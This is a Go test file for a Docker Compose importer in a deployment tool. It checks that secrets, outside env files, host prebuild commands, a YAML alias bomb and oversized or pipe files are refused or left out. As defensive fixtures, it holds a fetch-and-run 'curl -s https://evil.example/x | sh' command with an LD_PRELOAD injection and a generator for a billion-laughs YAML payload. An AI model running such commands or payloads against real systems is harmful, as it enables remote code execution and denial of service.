package importer

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/maestro-platform/deploy/tasks/catalog"
)

// project writes a compose project (file name -> text) into a folder of
// its own, with an empty catalog beside, and returns both.
func project(t *testing.T, files map[string]string) (dir, cat string) {
	t.Helper()
	root := t.TempDir()
	dir = filepath.Join(root, "project")
	for name, text := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cat = filepath.Join(root, "services.toml")
	if err := os.WriteFile(cat, []byte("[project]\nname = \"attack\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir, cat
}

// importBoth imports without and then with -lossy: the first must be
// refused with losses (returned); the second returns the catalog's text
// and everything import printed.
func importBoth(t *testing.T, dir, cat string) (losses []Finding, text, printed string) {
	t.Helper()
	var out bytes.Buffer
	_, err := Import(context.Background(), Options{Catalog: cat, Paths: []string{dir}, Out: &out})
	var le *LossError
	if !errors.As(err, &le) {
		t.Fatalf("import without -lossy: %v, want the losses listed\n%s", err, out.String())
	}
	printed = out.String() + err.Error()
	out.Reset()
	if _, err := Import(context.Background(), Options{Catalog: cat, Paths: []string{dir}, Out: &out, Lossy: true}); err != nil {
		t.Fatalf("import -lossy: %v\n%s", err, out.String())
	}
	b, err := os.ReadFile(cat)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := catalog.Load(cat); err != nil {
		t.Fatalf("the imported catalog does not load: %v\n%s", err, b)
	}
	return le.Losses, string(b), printed + out.String()
}

func hasLoss(losses []Finding, key, msg string) bool {
	for _, l := range losses {
		if l.Key == key && strings.Contains(l.Msg, msg) && l.Line > 0 {
			return true
		}
	}
	return false
}

// The operator's token in the shell (GITHUB_PAT) never reaches the
// catalog or the output: import does not interpolate from the process
// environment, and says which variable it did not take.
func TestAttackShellTokenNotImported(t *testing.T) {
	const token = "ghp_R4nd0mT0k3nV4lu3Th4tMu5tN3v3rL34k00"
	t.Setenv("GITHUB_PAT", token)
	t.Setenv("REGION", "operator-region")
	dir, cat := project(t, map[string]string{"docker-compose.yml": `services:
  sync:
    image: example/sync:1
    ports: ["8200:8000"]
    command: ["sync", "--token", "${GITHUB_PAT}"]
    labels:
      ci.token: "${GITHUB_PAT}"
      ci.region: "${REGION:-eu-west-1}"
    environment:
      UPSTREAM: "${GITHUB_PAT}"
`})
	losses, text, printed := importBoth(t, dir, cat)
	for _, key := range []string{"services.sync.command[2]", "services.sync.labels.ci.token"} {
		if !hasLoss(losses, key, "${GITHUB_PAT}") || !hasLoss(losses, key, "operator's environment") {
			t.Errorf("no loss at %s naming ${GITHUB_PAT}: %v", key, losses)
		}
	}
	for what, s := range map[string]string{"the catalog": text, "the output": printed} {
		if strings.Contains(s, token) || strings.Contains(s, "operator-region") {
			t.Errorf("%s holds a value of the shell:\n%s", what, s)
		}
	}
	// The default, not the shell's value; the environment value is a
	// secret, its value to come from outside.
	if !strings.Contains(text, `"ci.region" = "eu-west-1"`) || !strings.Contains(text, `secrets = ["UPSTREAM"]`) {
		t.Errorf("the catalog:\n%s", text)
	}
}

// A token in the project's own .env, under a name that does not say so,
// is found by its shape wherever it is interpolated, and left out even
// with -lossy.
func TestAttackDotenvTokenNotWritten(t *testing.T) {
	const token = "ghp_Pr0j3ctT0k3nV4lu3Th4tMu5tN3v3rL34k0"
	dir, cat := project(t, map[string]string{
		".env": "SYNC_AUTH=" + token + "\nCI_USER=robot\n",
		"docker-compose.yml": `services:
  sync:
    image: example/sync:1
    ports: ["8201:8000"]
    command: ["sync", "--user", "${CI_USER}", "--token", "${SYNC_AUTH}"]
    labels: ["ci.token=${SYNC_AUTH}", "ci.user=${CI_USER}"]
    healthcheck:
      test: ["CMD", "probe", "--auth", "${SYNC_AUTH}"]
  builder:
    build:
      context: .
      args: [SYNC_AUTH, CI_USER]
`, "Dockerfile": "FROM scratch\n"})
	losses, text, printed := importBoth(t, dir, cat)
	for _, key := range []string{"services.sync.command[4]", "services.sync.labels[0]", "services.sync.healthcheck.test[3]"} {
		if !hasLoss(losses, key, "carries a secret (${SYNC_AUTH} holds what looks like a token)") {
			t.Errorf("no loss at %s: %v", key, losses)
		}
	}
	if !hasLoss(losses, "services.builder.build.args.SYNC_AUTH", "carries a secret") {
		t.Errorf("no loss for the build argument: %v", losses)
	}
	if len(losses) != 4 {
		t.Errorf("%d losses, want 4: %v", len(losses), losses)
	}
	if strings.Contains(text, token) || strings.Contains(printed, token) {
		t.Errorf("the token was written or printed:\n%s\n%s", text, printed)
	}
	if !strings.Contains(text, `"ci.user" = "robot"`) || !strings.Contains(text, `build_args = { CI_USER = "robot" }`) {
		t.Errorf("the label without a secret is not imported:\n%s", text)
	}
}

// An env_file or label_file outside the compose folder (the operator's
// files) is a loss, and none of their values is read into the catalog.
func TestAttackEnvFileOutsideFolder(t *testing.T) {
	dir, cat := project(t, map[string]string{
		"docker-compose.yml": `services:
  api:
    image: example/api:1
    ports: ["8202:8000"]
    env_file: [app.env, ../operator.env, link.env]
    label_file: ../operator.labels
`,
		"app.env":            "LOG_LEVEL=info\n",
		"../operator.env":    "AWS_REGION=operator-region\n",
		"../operator.labels": "owner=operator-label\n",
	})
	// A link in the folder to the operator's file is that file.
	if err := os.Symlink(filepath.Join(dir, "..", "operator.env"), filepath.Join(dir, "link.env")); err != nil {
		t.Fatal(err)
	}
	losses, text, _ := importBoth(t, dir, cat)
	if !hasLoss(losses, "services.api.env_file[1]", "its variables are not imported") ||
		!hasLoss(losses, "services.api.env_file[2]", "link.env is outside the compose file's folder") ||
		!hasLoss(losses, "services.api.label_file", "its labels are not imported") || len(losses) != 3 {
		t.Errorf("losses: %v", losses)
	}
	if strings.Contains(text, "operator-") || !strings.Contains(text, `LOG_LEVEL = "info"`) {
		t.Errorf("the catalog:\n%s", text)
	}
}

// x-maestro's prebuild, a host command, is never taken silently: it is a
// loss without -prebuild (and left out with -lossy), and with -prebuild
// it comes with a warning naming the command.
func TestAttackPrebuildFromAFile(t *testing.T) {
	files := map[string]string{"docker-compose.yml": `services:
  web:
    build: .
    ports: ["8203:8080"]
    x-maestro:
      prebuild: ["sh", "-c", "curl -s https://evil.example/x | sh"]
      prebuild_env: { LD_PRELOAD: /tmp/evil.so }
`, "Dockerfile": "FROM scratch\n"}
	dir, cat := project(t, files)
	losses, text, _ := importBoth(t, dir, cat)
	if !hasLoss(losses, "services.web.x-maestro.prebuild", "a host command") || !hasLoss(losses, "services.web.x-maestro.prebuild", "curl -s https://evil.example/x | sh") {
		t.Errorf("losses: %v", losses)
	}
	if strings.Contains(text, "prebuild") || strings.Contains(text, "evil") {
		t.Errorf("-lossy imported the host command:\n%s", text)
	}

	dir, cat = project(t, files)
	var out bytes.Buffer
	res, err := Import(context.Background(), Options{Catalog: cat, Paths: []string{dir}, Out: &out, Prebuild: true})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(cat)
	if !strings.Contains(string(b), `prebuild = ["sh", "-c", "curl -s https://evil.example/x | sh"]`) || len(res.Warnings) != 1 {
		t.Errorf("-prebuild: %+v\n%s", res, b)
	}
	if !strings.Contains(out.String(), "WARNING: ") || !strings.Contains(out.String(), `LD_PRELOAD="/tmp/evil.so" ["sh" "-c" "curl -s https://evil.example/x | sh"] runs on this machine`) {
		t.Errorf("no warning naming the command:\n%s", out.String())
	}
}

// bomb is a "billion laughs": nine levels of nine aliases, 9^9 nodes
// once expanded, in a few hundred bytes.
func bomb() string {
	var b strings.Builder
	b.WriteString("x-0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n")
	for i := 1; i <= 8; i++ {
		r := strings.Repeat(fmt.Sprintf("*l%d, ", i-1), 9)
		fmt.Fprintf(&b, "x-%d: &l%d [%s]\n", i, i, strings.TrimSuffix(r, ", "))
	}
	b.WriteString("services:\n  web:\n    image: example/web:1\n    command: *l8\n")
	return b.String()
}

// bombChild is set in the environment of the test binary run as the
// child of TestAttackAliasBomb.
const bombChild = "IMPORTER_TEST_BOMB_CATALOG"

// The alias bomb, in the compose file and in a file it extends, is
// refused with file:line in a process whose address space is capped a
// little above what it uses at the start (the scanner without its bound
// went past 2 GB): a clear error, not an out-of-memory crash.
func TestAttackAliasBomb(t *testing.T) {
	if cat := os.Getenv(bombChild); cat != "" {
		bombInChild(cat, os.Getenv(bombChild+"_PATH"))
		return
	}
	for name, files := range map[string]map[string]string{
		"file": {"docker-compose.yml": bomb()},
		"extended": {"docker-compose.yml": "services:\n  web:\n    extends: { file: base.yml, service: web }\n    ports: [\"8204:80\"]\n",
			"base.yml": bomb()},
	} {
		t.Run(name, func(t *testing.T) {
			dir, cat := project(t, files)
			if len(files["docker-compose.yml"]) > 1024 || len(files["base.yml"]) > 1024 {
				t.Fatal("the bomb is no small file")
			}
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, os.Args[0], "-test.run=^TestAttackAliasBomb$", "-test.count=1")
			cmd.Env = append(os.Environ(), bombChild+"="+cat, bombChild+"_PATH="+dir)
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("the child failed (%v): out of memory?\n%.2000s", err, out)
			}
			file := "docker-compose.yml"
			if name == "extended" {
				file = "base.yml"
			}
			want := file + ":6: x-5: the file expands to more than 100000 YAML nodes"
			if !strings.Contains(string(out), want) {
				t.Errorf("the child said, want %q:\n%s", want, out)
			}
			if b, _ := os.ReadFile(cat); string(b) != "[project]\nname = \"attack\"\n" {
				t.Errorf("the catalog was written:\n%s", b)
			}
		})
	}
}

// bombInChild caps the address space, imports and prints the result.
func bombInChild(cat, dir string) {
	status, _ := os.ReadFile("/proc/self/status")
	var vm uint64
	for _, l := range strings.Split(string(status), "\n") {
		if f := strings.Fields(l); len(f) >= 2 && f[0] == "VmSize:" {
			kb, _ := strconv.ParseUint(f[1], 10, 64)
			vm = kb << 10
		}
	}
	limit := vm + 512<<20
	if err := syscall.Setrlimit(syscall.RLIMIT_AS, &syscall.Rlimit{Cur: limit, Max: limit}); err != nil || vm == 0 {
		fmt.Printf("cannot cap the address space (VmSize %d): %v\n", vm, err)
		os.Exit(3)
	}
	_, err := Import(context.Background(), Options{Catalog: cat, Paths: []string{dir}, Out: os.Stdout})
	fmt.Printf("address space capped at %d MiB; import: %v\n", limit>>20, err)
}

// compose-go's log lines (logrus) never reach the output: not the
// obsolete version attribute, not an unset variable, which import
// reports itself.
func TestComposeGoLogsKeptOff(t *testing.T) {
	var log bytes.Buffer
	logrus.SetOutput(&log)
	t.Cleanup(func() { logrus.SetOutput(os.Stderr) })
	dir, cat := project(t, map[string]string{"docker-compose.yml": `version: "3.8"
services:
  web:
    image: example/web:1
    ports: ["8205:80"]
    environment:
      STRIPE_API_KEY: "${STRIPE_API_KEY}"
      GREETING: "${GREETING:-hello ${NAME}}"
`})
	var out bytes.Buffer
	res, err := Import(context.Background(), Options{Catalog: cat, Paths: []string{dir}, Out: &out})
	if err != nil {
		t.Fatal(err)
	}
	if log.Len() > 0 || strings.Contains(out.String(), "level=") {
		t.Errorf("compose-go logged:\n%s%s", log.String(), out.String())
	}
	if !slices.ContainsFunc(res.Notes, func(n Finding) bool {
		return n.Key == "services.web.environment.STRIPE_API_KEY" && n.Line == 7 && strings.Contains(n.Msg, "a secret")
	}) {
		t.Errorf("notes: %v", res.Notes)
	}
	// The logger is the process's again.
	logrus.Warn("after")
	if !strings.Contains(log.String(), "after") {
		t.Errorf("import left logrus silenced")
	}
}

// A secret a service gets through extends, from its own file or another,
// is found at the extending service's own keys, and not written.
func TestAttackExtendedSecretNotWritten(t *testing.T) {
	dir, cat := project(t, map[string]string{
		".env": "DB_PASSWORD=hunter2-extended\nNPM_TOKEN=npm-token-value-9\n",
		"docker-compose.yml": `services:
  base:
    image: example/base:1
    command: ["serve", "--db-password", "${DB_PASSWORD}"]
  api:
    extends: base
    ports: ["8206:8000"]
  worker:
    extends: { file: common.yml, service: worker-base }
`,
		"common.yml": `services:
  worker-base:
    image: example/worker:1
    labels: { deploy.password: "${DB_PASSWORD}" }
    build:
      context: .
      args: ["NPM_TOKEN=${NPM_TOKEN}", "MODE=prod"]
`,
		"Dockerfile": "FROM scratch\n",
	})
	losses, text, printed := importBoth(t, dir, cat)
	for _, key := range []string{"services.base.command[2]", "services.api.command[2]", "services.worker.labels.deploy.password", "services.worker.build.args[0]"} {
		if !hasLoss(losses, key, "carries a secret") {
			t.Errorf("no loss at %s: %v", key, losses)
		}
	}
	for _, v := range []string{"hunter2-extended", "npm-token-value-9"} {
		if strings.Contains(text, v) || strings.Contains(printed, v) {
			t.Errorf("%s was written or printed:\n%s\n%s", v, text, printed)
		}
	}
	if !strings.Contains(text, `MODE = "prod"`) {
		t.Errorf("the build argument without a secret is not imported:\n%s", text)
	}
}

// Files past the size bound, and files that are no regular files (a pipe
// that never ends), are refused with a message naming them; nothing is
// written.
func TestAttackFileBounds(t *testing.T) {
	big := "services:\n  web:\n    image: example/web:1\n    labels:\n" + "      padding: \"x\"\n" +
		"x-padding: \"" + strings.Repeat("a", maxFileSize) + "\"\n"
	for name, c := range map[string]struct {
		files map[string]string
		fifo  string
		want  string
	}{
		"large compose file": {files: map[string]string{"docker-compose.yml": big}, want: "docker-compose.yml: larger than 256 KiB"},
		"large .env": {files: map[string]string{"docker-compose.yml": "services:\n  web:\n    image: example/web:1\n",
			".env": "A=" + strings.Repeat("a", maxFileSize) + "\n"}, want: ".env: larger than 256 KiB"},
		"a pipe as .env": {files: map[string]string{"docker-compose.yml": "services:\n  web:\n    image: example/web:1\n"},
			fifo: ".env", want: ".env: not a regular file"},
		"a pipe as env_file": {files: map[string]string{"docker-compose.yml": "services:\n  web:\n    image: example/web:1\n    env_file: app.env\n"},
			fifo: "app.env", want: "docker-compose.yml:4: services.web.env_file: app.env is not a regular file"},
	} {
		t.Run(name, func(t *testing.T) {
			dir, cat := project(t, c.files)
			if c.fifo != "" {
				if err := syscall.Mkfifo(filepath.Join(dir, c.fifo), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			_, err := Import(context.Background(), Options{Catalog: cat, Paths: []string{dir}, Out: &bytes.Buffer{}})
			var ce catalog.Errors
			if !errors.As(err, &ce) || !strings.Contains(err.Error(), c.want) {
				t.Errorf("import: %v, want %q", err, c.want)
			}
			if b, _ := os.ReadFile(cat); string(b) != "[project]\nname = \"attack\"\n" {
				t.Errorf("the catalog was written:\n%s", b)
			}
		})
	}
}
